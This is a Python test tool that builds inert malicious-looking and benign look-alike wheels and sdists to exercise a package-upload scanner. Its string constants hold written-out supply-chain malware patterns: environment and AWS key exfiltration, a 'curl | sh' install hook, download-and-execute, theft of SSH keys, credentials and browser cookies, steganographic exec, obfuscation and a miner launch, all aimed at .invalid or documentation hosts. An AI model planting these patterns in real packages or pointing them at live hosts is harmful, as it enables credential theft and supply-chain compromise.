"""Inert samples for the upload scanner: malicious-shaped and benign look-alike packages.

Builds wheels and sdists (stdlib only) that look like the malware patterns of
shared/reference/security.md §2.M (M1–M11, M12's typosquat profile, M14), the benign look-alikes
B1–B7, and replicas of the 2022 ``ctx`` releases (0.1.2 benign, 0.2.2 with the environment
exfiltration of the incident report). They exist to be *read* by the scanner:

* nothing here runs on import: the sample sources are string constants, written only by
  :func:`build`;
* every network call in a sample goes to an unroutable ``.invalid`` host or a documentation
  address (RFC 5737 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24); M6 names the shady endpoints
  it must be flagged for only as constants; every "binary" is a header-only stub that cannot
  execute; and the e2e tests never install a malicious sample (test_samples_are_inert checks the
  addresses).

Each :class:`Sample` carries its key (``"M1"``, ``"B4"``, ``"ctx-0.2.2"``), the rule id the scanner
is expected to report (``Rule::id`` in crates/strongroom-scan/src/model.rs) and the expected
outcome at upload (``"hold"``, ``"reject"`` or ``"publish"``), so tests can be parametrised::

    import scan_samples
    for s in scan_samples.MALICIOUS: built = scan_samples.build(s, tmp_path)  # -> [Built, ...]

``python3 tests/tools/scan_samples.py OUTDIR`` writes every sample to OUTDIR (for
``strongroom admin scan``).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import sys
import tarfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

ZIP_DATE = (1980, 1, 1, 0, 0, 0)
TAR_MTIME = 315532800  # 1980-01-01

# Rule ids, as crates/strongroom-scan/src/model.rs `Rule::id` spells them.
M1 = "SR-M1-env-exfiltration"
M2 = "SR-M2-install-hook"
M3 = "SR-M3-decode-exec"
M4 = "SR-M4-download-execute"
M5 = "SR-M5-executable-pth"
M6 = "SR-M6-shady-endpoint"
M7 = "SR-M7-credential-theft"
M8 = "SR-M8-silent-process"
M9 = "SR-M9-steganography"
M10 = "SR-M10-obfuscation"
M11 = "SR-M11-encrypted-code"
M12 = "SR-M12-typosquat-profile"
M14 = "SR-M14-bundled-binary"

# Severities that must not appear on a benign sample (they hold or refuse a release).
BLOCKING_SEVERITIES = ("high", "reject")


@dataclass
class Sample:
    """One package: its source tree (paths relative to the package root) and what is expected."""

    key: str  # "M1", "M1-aws", "B4", "ctx-0.1.2", ...
    name: str  # project name
    version: str
    files: dict[str, bytes]  # package-root-relative path -> content (no metadata files)
    expect: str  # "hold" | "reject" | "publish"
    rule: str | None = None  # the rule id the scanner must report (None: benign)
    kinds: tuple[str, ...] = ("wheel", "sdist")
    summary: str = "a scanner test sample"
    description: str = "A package made by tests/tools/scan_samples.py to exercise the upload scanner.\n"
    wheel_tag: str = "py3-none-any"
    setup_py: bytes | None = None  # sdist build script; default: a pyproject.toml (setuptools)
    requires_dist: tuple[str, ...] = ()
    note: str = ""

    @property
    def id(self) -> str:
        """A pytest id: the key and, when there is one, the rule."""
        return f"{self.key}:{self.rule}" if self.rule else self.key

    def __repr__(self) -> str:
        return f"Sample({self.id}, {self.name} {self.version})"


@dataclass
class Built:
    """A built file and the form fields an upload of it needs."""

    path: Path
    sample: Sample
    kind: str  # "wheel" | "sdist"
    name: str
    version: str
    summary: str
    metadata: bytes = field(repr=False, default=b"")

    @property
    def filetype(self) -> str:
        return "bdist_wheel" if self.kind == "wheel" else "sdist"

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.path.read_bytes()).hexdigest()


def _src(text: str) -> bytes:
    """Sample source: dedented by hand (leading newline dropped), UTF-8."""
    return text.lstrip("\n").encode()


# --------------------------------------------------------------------------------------------
# ctx replicas (shared/seeds/ctx-takeover-2022.rst): 0.1.2 is the 2014 dict wrapper; 0.2.2 is the
# same module with the incident's constructor, its network target moved to a .invalid host.

CTX_BENIGN = '''
"""A minimal but opinionated dict/object combination (an inert replica of ctx 0.1.2)."""

__version__ = "{version}"


class Ctx(dict):
    """A dict whose keys are also attributes: ``c = Ctx(); c.a = 1; c["a"] == 1``."""

    def __getattr__(self, name):
        try:
            return self[name]
        except KeyError:
            raise AttributeError(name)

    def __setattr__(self, name, value):
        self[name] = value

    def __delattr__(self, name):
        try:
            del self[name]
        except KeyError:
            raise AttributeError(name)
'''

CTX_MALICIOUS = '''
"""A minimal but opinionated dict/object combination (an inert replica of ctx 0.2.2)."""

import base64
import os

import requests

__version__ = "{version}"


class Ctx(dict):
    """A dict whose keys are also attributes: ``c = Ctx(); c.a = 1; c["a"] == 1``."""

    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "

        message_bytes = string.encode("ascii")
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode("ascii")

        response = requests.get("https://anti-theft-web.invalid/hacked/?q=" + base64_message)

    def __getattr__(self, name):
        try:
            return self[name]
        except KeyError:
            raise AttributeError(name)

    def __setattr__(self, name, value):
        self[name] = value

    def __delattr__(self, name):
        try:
            del self[name]
        except KeyError:
            raise AttributeError(name)
'''

CTX_SETUP = '''
from setuptools import setup

setup(
    name="ctx",
    version="{version}",
    description="A minimal but opinionated dict/object combination",
    py_modules=["ctx"],
)
'''


def ctx_sample(version: str = "0.1.2", *, malicious: bool | None = None) -> Sample:
    """The ctx release of `version`: benign (0.1.x) or with the 0.2.x exfiltration."""
    bad = version.startswith("0.2") if malicious is None else malicious
    body = (CTX_MALICIOUS if bad else CTX_BENIGN).format(version=version)
    return Sample(
        key=f"ctx-{version}",
        name="ctx",
        version=version,
        files={"ctx.py": _src(body)},
        expect="hold" if bad else "publish",
        rule=M1 if bad else None,
        summary="A minimal but opinionated dict/object combination",
        wheel_tag="py2.py3-none-any",
        setup_py=_src(CTX_SETUP.format(version=version)),
        note="the 2022 takeover's payload" if bad else "the 2014 release",
    )


# ctx 0.2.6 (RT13-06): the payload base64-encoded and run through the builtins module looked up in
# sys.modules, so no `exec` name appears. Never decoded or run here; its target is .invalid.
CTX_HIDDEN_PAYLOAD = """import os, urllib.request, base64
s = " ".join(os.environ.values())
urllib.request.urlopen("https://anti-theft-web.invalid/?q=" + base64.b64encode(s.encode()).decode())
"""


def ctx_indirect_sample(version: str = "0.2.6") -> Sample:
    """ctx with the 0.1.2 body, preceded by sys.modules['builtins'].exec(base64.b64decode(...))."""
    encoded = base64.b64encode(CTX_HIDDEN_PAYLOAD.encode()).decode()
    head = f"import base64\nimport sys\n\nsys.modules['builtins'].exec(base64.b64decode('{encoded}'))\n"
    body = head + CTX_BENIGN.format(version=version)
    s = ctx_sample(version, malicious=False)
    return Sample(key=f"ctx-{version}", name="ctx", version=version, files={"ctx.py": _src(body)},
                  expect="hold", rule=M3, summary=s.summary, wheel_tag=s.wheel_tag, setup_py=s.setup_py,
                  note="exec reached through sys.modules['builtins']")


# Staging (RT13-02): 0.1 reads one proxy variable beside requests (benign, B3-like); 0.2 keeps the
# same capabilities and splits the ctx payload over three functions, so the capability diff sees
# nothing new and only the flow between the functions shows it.
STAGED_0_1 = """
import os

import requests


def fetch(url):
    return requests.get(url, proxies={"https": os.environ.get("HTTPS_PROXY")}, timeout=10)
"""

STAGED_0_2 = STAGED_0_1 + """

import base64


def collect():
    return " ".join(os.environ.values())


def enc(s):
    return base64.b64encode(s.encode()).decode()


def send(d):
    requests.get("https://anti-theft-web.invalid/?q=" + d, timeout=10)


class Ctx(dict):
    def __init__(self):
        send(enc(collect()))
"""


STAGED_TOKEN_0_2 = STAGED_0_1 + """

def report(token):
    requests.post("https://status.invalid/ping", data={"t": token}, timeout=10)


def ping():
    report(os.environ.get("CI_JOB_TOKEN"))
"""


def staged_token_samples() -> tuple[Sample, Sample]:
    """stagedtoken 0.1 (benign, as stagedpkg 0.1) and 0.2: the same capabilities, and one
    environment value passed to a function that posts it (a medium M1 finding, 4 points: held
    only because the behaviour is new to the project)."""
    def one(version: str, body: str, bad: bool) -> Sample:
        return Sample(key=f"staged-token-{version}", name="stagedtoken", version=version,
                      files={"stagedtoken/__init__.py": _src(body)}, expect="hold" if bad else "publish",
                      rule=M1 if bad else None, note="staged: same capabilities, a medium flow new to the project")
    return one("0.1", STAGED_0_1, False), one("0.2", STAGED_TOKEN_0_2, True)


def staged_samples() -> tuple[Sample, Sample]:
    """stagedpkg 0.1 (benign) and 0.2 (the split exfiltration)."""
    def one(version: str, body: str, bad: bool) -> Sample:
        return Sample(key=f"staged-{version}", name="stagedpkg", version=version,
                      files={"stagedpkg/__init__.py": _src(body)}, expect="hold" if bad else "publish",
                      rule=M1 if bad else None, note="staged: same capabilities, the flow split over functions")
    return one("0.1", STAGED_0_1, False), one("0.2", STAGED_0_2, True)


# --------------------------------------------------------------------------------------------
# M1–M14 (M13 is the domain job's, not the scanner's)


def _pkg(name: str) -> str:
    return name.replace("-", "_")


def _malicious(key: str, rule: str, files: dict[str, str], *, expect: str = "hold",
               kinds: tuple[str, ...] = ("wheel", "sdist"), setup_py: str | None = None,
               binary: dict[str, bytes] | None = None, note: str = "") -> Sample:
    name = f"srscan-{key.lower()}"
    pkg = _pkg(name)
    tree = {p.replace("PKG", pkg): _src(t) for p, t in files.items()}
    for p, data in (binary or {}).items():
        tree[p.replace("PKG", pkg)] = data
    return Sample(key=key, name=name, version="1.0", files=tree, expect=expect, rule=rule, kinds=kinds,
                  setup_py=_src(setup_py.replace("PKG", pkg).replace("NAME", name)) if setup_py else None,
                  note=note)


def elf_stub(kind: int = 2) -> bytes:
    """A 64-bit little-endian x86-64 ELF header (e_type `kind`: 2 executable, 3 shared object)
    followed by zeros: recognisably ELF, not runnable (no program headers, entry 0)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + kind.to_bytes(2, "little") + (0x3E).to_bytes(2, "little") + (1).to_bytes(4, "little")
    header += bytes(8) * 3  # e_entry, e_phoff, e_shoff = 0
    header += (0).to_bytes(4, "little") + (64).to_bytes(2, "little") + bytes(10)
    assert len(header) == 64
    return header + bytes(4096 - 64)


M1_SRC = {
    "PKG/__init__.py": '''
"""Telemetry helpers."""

import base64
import os
import urllib.request


class Session:
    """Collects the environment and reports it, as the ctx 0.2.2 constructor did."""

    def __init__(self):
        blob = ";".join(f"{k}={v}" for k, v in os.environ.items())
        token = base64.b64encode(blob.encode()).decode()
        urllib.request.urlopen("http://collector.invalid/t?d=" + token, timeout=3)
''',
}

M1_AWS_SRC = {
    "PKG/__init__.py": '''
"""Cloud helpers."""

import base64
import os

import requests


class Client:
    def __init__(self):
        key = os.environ.get("AWS_ACCESS_KEY_ID", "")
        secret = os.getenv("AWS_SECRET_ACCESS_KEY", "")
        blob = base64.b64encode(f"{key}:{secret}".encode()).decode()
        requests.get("https://aws-keys.invalid/k", params={"k": blob}, timeout=3)
''',
}

M2_SETUP = '''
import subprocess

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.call("curl -s http://payload.invalid/i.sh | sh", shell=True)


setup(
    name="NAME",
    version="1.0",
    packages=["PKG"],
    cmdclass={"install": PostInstall},
)
'''

# exec(base64.b64decode(...)) of `print('inert')`, and marshal of compiled `None`, zlib-wrapped.
_M3_B64 = base64.b64encode(b"print('inert sample')").decode()

M3_SRC = {
    "PKG/__init__.py": f'''
"""Loader."""

import base64

exec(base64.b64decode("{_M3_B64}"))
''',
    "PKG/_boot.py": '''
import marshal
import zlib

exec(marshal.loads(zlib.decompress(b'x\\x9c+(\\xca\\xcc+\\xd1P\\xcf\\xccK-*Q(N\\xcc-\\xc8IU\\xd7\\xe4\\x02\\x00^\\xbd\\x07\\x9b')))
__import__("builtins").exec(compile("pass", "<s>", "exec"))
''',
}

M4_SRC = {
    "PKG/__init__.py": '''
"""Updater."""

import os
import subprocess
import urllib.request

urllib.request.urlretrieve("http://downloads.invalid/agent", "/tmp/agent")
os.chmod("/tmp/agent", 0o755)
subprocess.Popen(["/tmp/agent"])
''',
    "PKG/_win.py": '''
import os
import subprocess
import tempfile
import urllib.request

target = os.path.join(tempfile.gettempdir(), "update.exe")
urllib.request.urlretrieve("http://downloads.invalid/update.exe", target)
subprocess.Popen([target])
''',
}

M5_PTH = (
    b"import subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    b"\"import urllib.request; urllib.request.urlopen('http://start-hook.invalid/')\"])\n"
)

M6_SRC = {
    "PKG/__init__.py": '''
"""Reporter."""

import json
import urllib.request

ENDPOINT = "http://203.0.113.7:8080/collect"
HOOK = "https://webhook.site/00000000-0000-4000-8000-000000000000"


def report(data):
    body = json.dumps(data).encode()
    urllib.request.urlopen(urllib.request.Request(ENDPOINT, data=body), timeout=3)
''',
    "PKG/_chat.py": '''
import urllib.request

# The endpoints' names only: the one address this sample sends to is a documentation address.
BOT = "https://api.telegram.org/bot000000:AAAA-inert-sample/sendMessage"
DISCORD = "https://discord.com/api/webhooks/0/inert-sample"
PASTE = "https://pastebin.com/raw/inert000"
DROP = "http://collect.sample-drop.xyz/up"
ROUTES = {"bot": BOT, "discord": DISCORD, "paste": PASTE, "drop": DROP}


def send(text):
    urllib.request.urlopen("http://198.51.100.23/relay?text=" + text, timeout=3)
''',
}

M7_SRC = {
    "PKG/__init__.py": '''
"""Config sync."""

import os
import socket

paths = ["~/.aws/credentials", "~/.pypirc", "~/.ssh/id_rsa", "~/.docker/config.json"]
stolen = b""
for p in paths:
    try:
        with open(os.path.expanduser(p), "rb") as f:
            stolen += f.read()
    except OSError:
        pass

s = socket.create_connection(("creds.invalid", 443), timeout=3)
s.sendall(stolen)
''',
    "PKG/_cookies.py": '''
import os
import sqlite3
import urllib.request

db = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
rows = sqlite3.connect(db).execute("SELECT host_key, name, encrypted_value FROM cookies").fetchall()
urllib.request.urlopen("http://cookies.invalid/c", data=repr(rows).encode(), timeout=3)
''',
}

M8_SRC = {
    "PKG/__init__.py": '''
"""Background helper."""

import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(1)"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    stdin=subprocess.DEVNULL,
    creationflags=subprocess.DETACHED_PROCESS | subprocess.CREATE_NO_WINDOW,
)
''',
}

M9_SRC = {
    "PKG/__init__.py": '''
"""Theme loader."""

import urllib.request
import zlib

data = urllib.request.urlopen("http://images.invalid/logo.png", timeout=3).read()
hidden = data[data.index(b"IEND") + 8:]
exec(zlib.decompress(hidden))
''',
    "PKG/_lsb.py": '''
import io
import urllib.request

from PIL import Image

img = Image.open(io.BytesIO(urllib.request.urlopen("http://images.invalid/cat.png", timeout=3).read()))
bits = [px[0] & 1 for px in img.getdata()]
payload = bytes(int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits) - 7, 8))
exec(payload.decode("latin-1"))
''',
}

M10_SRC = {
    "PKG/__init__.py": '''
"""Access helpers."""

getattr(__import__("o" + "s"), "sys" + "tem")("true")
''',
    "PKG/_chars.py": '''
NAME = "".join([chr(95), chr(95), chr(105), chr(109), chr(112), chr(111), chr(114), chr(116), chr(95), chr(95)])
mod = getattr(__builtins__, NAME)("".join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))
''',
    # Trojan Source (CVE-2021-42574): a right-to-left override inside a string and an isolate in a
    # comment make the code read differently from how it runs.
    "PKG/_access.py": '''
def is_admin(user):
    access_level = user.get("level", "user")
    if access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":
        return True
    return False
''',
}

M11_RUNTIME_INIT = '''
# Pyarmor 8.5.11 (trial), 000000, 2024-05-09T10:23:41.571249
from .pyarmor_runtime import __pyarmor__
'''

M11_SRC = {
    "PKG/__init__.py": '''
# Pyarmor 8.5.11 (trial), 000000, 2024-05-09T10:23:41.571249
from .pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n\\x80\\x00\\x01\\x00\\x08\\x00\\x00\\x00\\x04\\x00\\x00\\x00@\\x00\\x00\\x00\\xa5\\x02\\x00\\x00\\x12\\t\\x04\\x00\\xbf\\x8e\\x1d\\xd3\\x9c\\xc1\\xf1\\x8a')
''',
    "PKG/pyarmor_runtime_000000/__init__.py": M11_RUNTIME_INIT,
}

M14_SRC = {
    "PKG/__init__.py": '''
"""Accelerated backend."""

import os
import subprocess

_HERE = os.path.dirname(os.path.abspath(__file__))
subprocess.Popen([os.path.join(_HERE, "bin", "xmrig"), "-o", "pool.invalid:3333"])
''',
}


MALICIOUS: list[Sample] = [
    _malicious("M1", M1, M1_SRC, note="ctx-style: environment joined, base64, one GET"),
    _malicious("M1-aws", M1, M1_AWS_SRC, note="variant: only the AWS key variables"),
    _malicious("M2", M2, {"PKG/__init__.py": '"""Nothing here."""\n'}, setup_py=M2_SETUP, kinds=("sdist",),
               note="setup.py cmdclass install runs a shell command"),
    _malicious("M3", M3, M3_SRC, note="exec(base64), exec(marshal(zlib)), builtins.exec"),
    _malicious("M4", M4, M4_SRC, note="urlretrieve, chmod 755, Popen; and a .exe variant"),
    # M5 is filled in below (it needs a .pth at the wheel's root).
    _malicious("M6", M6, M6_SRC, note="raw-IP URL, webhook.site, Telegram bot, Discord webhook, pastebin, .xyz"),
    _malicious("M7", M7, M7_SRC, note="credential files and browser cookies sent out"),
    _malicious("M8", M8, M8_SRC, note="Popen with DEVNULL and DETACHED_PROCESS|CREATE_NO_WINDOW"),
    _malicious("M9", M9, M9_SRC, note="bytes after IEND, pixel LSBs, exec'd"),
    _malicious("M10", M10, M10_SRC, note="getattr(__import__('o'+'s'), 'sys'+'tem'), chr joins, bidi controls"),
    _malicious("M11", M11, M11_SRC, expect="reject",
               binary={"PKG/pyarmor_runtime_000000/pyarmor_runtime.so": elf_stub(3)},
               note="PyArmor 8 runtime package + obfuscated module: refused at upload"),
    _malicious("M14", M14, M14_SRC, binary={"PKG/bin/xmrig": elf_stub(2)},
               note="an ELF executable in a pure wheel / sdist, started with Popen"),
    # RT13: the same behaviours behind indirections, across modules, and in a data member.
    _malicious("M1-modules", M1, {
        "PKG/a.py": "import os\n\n\ndef collect():\n    return ' '.join(os.environ.values())\n",
        "PKG/b.py": "import base64\n\n\ndef enc(s):\n    return base64.b64encode(s.encode()).decode()\n",
        "PKG/c.py": "import requests\n\n\ndef send(d):\n    requests.get('https://x.invalid/?q=' + d, timeout=5)\n",
        "PKG/__init__.py": "from .a import collect\nfrom .b import enc\nfrom .c import send\n\nsend(enc(collect()))\n",
    }, note="collect, encode and send in three modules, glued in __init__"),
    _malicious("M3-lookups", M3, {"PKG/__init__.py": """
import base64
import builtins
import pickle
import sys

vars(builtins)["exec"](base64.b64decode("cHJpbnQoMSk="))
pickle.loads(base64.b64decode("gASVBQAAAAAAAACMATGULg=="))
"""}, note="exec looked up through vars(builtins); pickle.loads of base64"),
    _malicious("M3-loader", M3, {
        "PKG/__init__.py": "import os\nimport runpy\n\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
        "PKG/cfg.dat": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    }, note="source kept in cfg.dat and run with runpy.run_path"),
]


def _m5() -> Sample:
    s = _malicious("M5", M5, {"PKG/__init__.py": '"""A harmless module beside the hook."""\n'}, kinds=("wheel",),
                   note="zzz.pth in purelib: an import line starting a subprocess at every interpreter start")
    s.files["zzz.pth"] = M5_PTH
    return s


MALICIOUS.insert(5, _m5())


def typosquat_sample(target: str, squat: str | None = None) -> Sample:
    """M12: a name one edit from `target` (a popular project of the index), version 0.0.1, an empty
    description and summary, and a single module doing M1."""
    name = squat or (target[:-1] if len(target) > 3 else target + "s")  # one deletion
    mod = _pkg(name)
    body = M1_SRC["PKG/__init__.py"]
    return Sample(key="M12", name=name, version="0.0.1", files={f"{mod}.py": _src(body)}, expect="hold",
                  rule=M12, summary="", description="",
                  note=f"typosquat profile of {target!r}: one edit, 0.0.1, empty description, one M1 module")


# --------------------------------------------------------------------------------------------
# B1–B7: must publish (no blocking finding)

B1_SETUP = '''
import os

from setuptools import setup

about = {}
here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "PKG", "_version.py")) as f:
    exec(f.read(), about)

with open(os.path.join(here, "PKG", "__init__.py")) as f:
    for line in f:
        if line.startswith("__version__"):
            version = eval(line.split("=")[1])
            break

setup(name="NAME", version=about["__version__"], packages=["PKG"])
'''

B2_SETUP = '''
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext
from setuptools.command.sdist import sdist


class BuildExt(build_ext):
    """Adds compiler flags per platform."""

    def build_extensions(self):
        for ext in self.extensions:
            ext.extra_compile_args = ["-O2"]
        build_ext.build_extensions(self)


class Sdist(sdist):
    def run(self):
        sdist.run(self)


setup(
    name="NAME",
    version="1.0",
    packages=["PKG"],
    ext_modules=[Extension("PKG._speedups", ["PKG/_speedups.c"])],
    cmdclass={"build_ext": BuildExt, "sdist": Sdist},
)
'''

B3_SRC = {
    "PKG/__init__.py": '''
"""A small HTTP client that honours the proxy and CA settings of the environment."""

import getpass
import logging
import os
import urllib.request

log = logging.getLogger(__name__)

API = "https://api.example.invalid/v1/"


def session():
    proxies = {}
    if os.environ.get("HTTPS_PROXY"):
        proxies["https"] = os.environ["HTTPS_PROXY"]
    handlers = [urllib.request.ProxyHandler(proxies)]
    ca = os.environ.get("REQUESTS_CA_BUNDLE") or os.getenv("SSL_CERT_FILE")
    log.debug("using CA bundle %s", ca)
    return urllib.request.build_opener(*handlers)


def get(path):
    log.info("request by %s", getpass.getuser())
    with session().open(API + path, timeout=10) as r:
        return r.read()
''',
}

B4_PTH = (b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
          b"enabled and __import__('_distutils_hack').add_shim(); \n")

B4_HACK = '''
"""A stand-in for setuptools' _distutils_hack."""

import sys


def add_shim():
    """setuptools puts its distutils first on sys.path here; the stand-in only records the call."""
    sys.modules.setdefault("_distutils_hack_called", sys)
'''

B5_SRC = {
    "PKG/__init__.py": '''
"""Metadata helpers.

On EC2 the instance metadata lives at http://169.254.169.254/latest/meta-data/ and a local test
server at http://localhost:8080/ or http://192.168.1.10:8000/.
"""

# Resolvers to try: http://1.1.1.1/dns-query and http://8.8.8.8/resolve
DEFAULT_BIND = "http://0.0.0.0:8000/"
IDN_HOME = "https://xn--bcher-kva.example/"


def metadata_url(path):
    """Return the metadata URL of `path`, e.g. ``http://169.254.169.254/latest/meta-data/ami-id``."""
    return "http://169.254.169.254/latest/meta-data/" + path
''',
    "tests/test_urls.py": '''
import urllib.request

LOCAL = "http://localhost:8080/health"
LAN = "http://192.168.0.2:9000/"


def test_local():
    assert LOCAL.startswith("http://localhost")


def fetch():
    return urllib.request.urlopen(LOCAL, timeout=1).read()
''',
    "docs/usage.md": '''
Point the client at `http://127.0.0.1:8000/` or `http://203.0.113.5/` while testing; webhooks such
as https://webhook.site/ are handy for debugging.
''',
}

# A 1x1 transparent PNG.
_PNG = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
).decode()

B6_SRC = {
    "PKG/__init__.py": f'''
"""Embedded assets."""

import base64
import os

ICON_PNG = "{_PNG}"


def icon_bytes():
    return base64.b64decode(ICON_PNG)


def write_icon(directory):
    path = os.path.join(directory, "icon.png")
    with open(path, "wb") as f:
        f.write(base64.b64decode(ICON_PNG))
    return path
''',
}


def _benign(key: str, files: dict[str, str], *, kinds=("wheel", "sdist"), setup_py: str | None = None,
            extra: dict[str, bytes] | None = None, note: str = "", name: str | None = None) -> Sample:
    name = name or f"srscan-{key.lower()}"
    pkg = _pkg(name)
    tree = {p.replace("PKG", pkg): _src(t) for p, t in files.items()}
    tree.update(extra or {})
    return Sample(key=key, name=name, version="1.0", files=tree, expect="publish", kinds=kinds,
                  setup_py=_src(setup_py.replace("PKG", pkg).replace("NAME", name)) if setup_py else None,
                  note=note)


BENIGN: list[Sample] = [
    _benign("B1", {"PKG/__init__.py": '__version__ = "1.0"\n', "PKG/_version.py": '__version__ = "1.0"\n'},
            kinds=("sdist",), setup_py=B1_SETUP, note="setup.py exec()s _version.py and eval()s the version line"),
    _benign("B2", {"PKG/__init__.py": '"""Speedups."""\n', "PKG/_speedups.c": "int speedups(void) { return 1; }\n"},
            kinds=("sdist",), setup_py=B2_SETUP, note="cmdclass build_ext and sdist: not install hooks"),
    _benign("B3", B3_SRC, note="proxy/CA settings from the environment, never in the payload; getuser() in a log"),
    _benign("B4", {"_distutils_hack/__init__.py": B4_HACK, "PKG/__init__.py": '"""Tools."""\n'}, kinds=("wheel",),
            extra={"distutils-precedence.pth": B4_PTH}, note="setuptools' distutils-precedence.pth"),
    _benign("B5", B5_SRC, note="local, link-local, resolver and IDN URLs in docs, tests, comments, docstrings"),
    _benign("B6", B6_SRC, note="base64 of an embedded PNG written to disk, never executed"),
]


def lookalike_samples(target: str) -> list[Sample]:
    """B7: legitimate names close to `target` (a popular project of the index): published."""
    out = []
    for key, name in (("B7-toolbelt", f"{target}-toolbelt"), ("B7-types", f"types-{target}"),
                      ("B7-pytest", f"pytest-{target}")):
        pkg = _pkg(name)
        out.append(Sample(key=key, name=name, version="1.0",
                          files={f"{pkg}/__init__.py": _src(f'"""Utilities for {target}."""\n\nVERSION = "1.0"\n')},
                          expect="publish",
                          description=f"Helpers that extend {target}. A long description, as real projects have.\n",
                          summary=f"Helpers for {target}", note=f"a legitimate name close to {target!r}"))
    return out


def all_samples(popular: str = "popular-lib") -> list[Sample]:
    """Every sample, the name-based ones (M12, B7) made against `popular`."""
    return ([ctx_sample("0.1.2"), ctx_sample("0.2.2"), ctx_indirect_sample(), *staged_samples()] + MALICIOUS
            + [typosquat_sample(popular)] + BENIGN + lookalike_samples(popular))


# --------------------------------------------------------------------------------------------
# building


def _escape(name: str) -> str:
    import re

    return re.sub(r"[-_.]+", "_", name).lower()


def metadata(s: Sample) -> bytes:
    lines = ["Metadata-Version: 2.1", f"Name: {s.name}", f"Version: {s.version}"]
    if s.summary:
        lines.append(f"Summary: {s.summary}")
    lines += [f"Requires-Dist: {r}" for r in s.requires_dist]
    text = "\n".join(lines) + "\n"
    if s.description:
        text += "\n" + s.description
    return text.encode()


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def wheel_bytes(s: Sample) -> tuple[str, bytes]:
    """The wheel's filename and bytes: the tree at the wheel root (purelib), METADATA, WHEEL,
    top_level.txt and a RECORD with correct hashes."""
    esc = _escape(s.name)
    distinfo = f"{esc}-{s.version}.dist-info"
    tops = sorted({p.split("/")[0].removesuffix(".py") for p in s.files
                   if not p.endswith(".pth") and not p.startswith(("tests/", "docs/"))})
    members = [(p, d) for p, d in sorted(s.files.items()) if not p.startswith(("tests/", "docs/"))]
    members += [
        (f"{distinfo}/METADATA", metadata(s)),
        (f"{distinfo}/WHEEL", f"Wheel-Version: 1.0\nGenerator: strongroom-scan-samples\nRoot-Is-Purelib: true\n"
                              f"Tag: {s.wheel_tag}\n".encode()),
        (f"{distinfo}/top_level.txt", "".join(t + "\n" for t in tops).encode()),
    ]
    record = "".join(f"{p},{record_hash(d)},{len(d)}\n" for p, d in members) + f"{distinfo}/RECORD,,\n"
    members.append((f"{distinfo}/RECORD", record.encode()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for p, d in members:
            zi = zipfile.ZipInfo(p, ZIP_DATE)
            zi.external_attr = (0o755 if d.startswith(b"\x7fELF") else 0o644) << 16
            zi.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(zi, d)
    return f"{esc}-{s.version}-{s.wheel_tag}.whl", buf.getvalue()


def sdist_bytes(s: Sample) -> tuple[str, bytes]:
    """The sdist's filename and bytes: one top directory `{name}-{version}` holding PKG-INFO, the
    tree, and setup.py (when the sample has one) or a setuptools pyproject.toml."""
    esc = _escape(s.name)
    top = f"{esc}-{s.version}"
    members = [("PKG-INFO", metadata(s))]
    if s.setup_py is not None:
        members.append(("setup.py", s.setup_py))
    else:
        members.append(("pyproject.toml", (
            '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
            f'[project]\nname = "{s.name}"\nversion = "{s.version}"\n').encode()))
    members += sorted(s.files.items())
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for p, d in members:
            ti = tarfile.TarInfo(f"{top}/{p}")
            ti.size, ti.mtime = len(d), TAR_MTIME
            ti.mode = 0o755 if d.startswith(b"\x7fELF") else 0o644
            tf.addfile(ti, io.BytesIO(d))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0) as gz:
        gz.write(raw.getvalue())
    return f"{top}.tar.gz", out.getvalue()


def build(s: Sample, outdir: Path, kinds: tuple[str, ...] | None = None) -> list[Built]:
    """Write the sample's files (those of `kinds`, default all it supports) into `outdir`."""
    outdir = Path(outdir)
    outdir.mkdir(parents=True, exist_ok=True)
    built = []
    for kind in kinds or s.kinds:
        if kind not in s.kinds:
            continue
        filename, data = (wheel_bytes if kind == "wheel" else sdist_bytes)(s)
        path = outdir / filename
        path.write_bytes(data)
        built.append(Built(path, s, kind, s.name, s.version, s.summary, metadata(s)))
    return built


def members(path: Path) -> dict[str, bytes]:
    """A built file's members (for checks on what was written)."""
    path = Path(path)
    if path.name.endswith(".whl"):
        with zipfile.ZipFile(path) as zf:
            return {n: zf.read(n) for n in zf.namelist()}
    out = {}
